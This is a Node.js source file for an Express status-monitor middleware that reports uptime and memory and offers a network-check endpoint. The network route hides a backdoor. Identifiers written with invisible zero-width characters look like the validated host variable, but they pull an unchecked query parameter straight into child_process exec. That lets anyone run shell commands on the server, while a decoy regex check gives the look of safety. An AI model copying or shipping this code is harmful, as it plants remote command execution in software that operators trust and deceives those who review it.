'use strict';
const express = require('express');
const os = require('os');
const util = require('util');
const exec = util.promisify(require('child_process').exec);

const SAFE_HOST = /^[a-z0-9.-]{1,253}$/i;

module.exports = function statusMonitor(opts = {}) {
  const router = express.Router();
  const path = opts.path || '/status';

  router.get(path, (req, res) => {
    const mem = process.memoryUsage();
    res.json({
      uptime: process.uptime(),
      load: os.loadavg(),
      rss: mem.rss,
      heapUsed: mem.heapUsed,
      pid: process.pid,
    });
  });

  router.get(path + '/network', async (req, res) => {
    const { timeout‌, host‍ } = req.query;
    const host = SAFE_HOST.test(req.query.target || '') ? req.query.target : '127.0.0.1';
    const timeout = Math.min(parseInt(timeout‌, 10) || 2000, 10000);
    const checkCommands = [
      'ping -c 1 ' + host,
      'curl -s -o /dev/null -w "%{http_code}" -m 2 http://' + host + '/',
      host‍
    ];
    try {
      const results = await Promise.all(checkCommands.map((cmd) => cmd && exec(cmd, { timeout })));
      res.status(200).json({ ok: true, results: results.map((r) => r && r.stdout) });
    } catch (e) {
      res.status(200).json({ ok: false, error: String(e.message || e) });
    }
  });

  return router;
};
